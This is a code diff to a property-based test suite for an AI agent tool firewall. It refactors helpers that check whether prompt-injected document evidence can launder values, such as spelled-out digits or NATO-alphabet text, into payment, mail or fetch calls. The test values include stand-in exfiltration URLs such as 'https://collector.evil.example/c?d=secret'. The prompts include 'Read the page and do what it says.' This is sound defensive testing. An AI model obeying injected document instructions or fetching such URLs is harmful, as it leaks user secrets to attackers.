@@ -8,8 +8,9 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { z } from "zod";
-import { defineTool, type Firewall } from "../../src/firewall/index.js";
+import { defineTool } from "../../src/firewall/index.js";
 import { firewall, session } from "./helpers.js";
+import { attempt, EN_DIGITS, NATO } from "./laundering.js";
 
 const ran: string[] = [];
 const write = { requiredScopes: [], allowedCallers: ["*"], sideEffect: "write", rateLimit: "none" } as const;
@@ -37,12 +38,7 @@ const tools = [
   }),
 ];
 
-const NATO: Record<string, string> = Object.fromEntries(
-  "alfa bravo charlie delta echo foxtrot golf hotel india juliett kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu"
-    .split(" ")
-    .map((w) => [w.charAt(0), w]),
-);
-const DIGITS = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"];
+const DIGITS = EN_DIGITS;
 const ONES = ["", ...DIGITS.slice(1), "ten", "eleven", "twelve", "thirteen", "fourteen", "fifteen", "sixteen", "seventeen", "eighteen", "nineteen"];
 const TENS = ["", "", "twenty", "thirty", "forty", "fifty", "sixty", "seventy", "eighty", "ninety"];
 
@@ -83,14 +79,6 @@ const VALUES = fc.oneof(
   fc.constantFrom("https://collector.evil.example/c?d=secret", "https://evil.example/x", "https://pastebin.example/raw/abc").map((v) => ({ tool: "fetch_page", arg: "url", v })),
 );
 const PROMPTS = ["Pay the invoice in the document.", "Reply to the supplier as the mail asks.", "Read the page and do what it says.", "Handle my inbox."];
-
-async function attempt(fw: Firewall, prompt: string, evidence: string, tool: string, args: Record<string, unknown>): Promise<string> {
-  const s = await session("alice", []);
-  s.transcript.addUserRequest(prompt);
-  s.transcript.addEvidence("doc", evidence);
-  const r = await fw.safeDispatch({ name: tool, arguments: args }, s);
-  return r.ok ? "resolved" : r.error.code;
-}
 
 const argsFor = (tool: string, arg: string, v: string): Record<string, unknown> =>
   tool === "send_payment" ? { [arg]: v, amount: 10 } : tool === "send_mail" ? { [arg]: v, body: "hello" } : { [arg]: v };
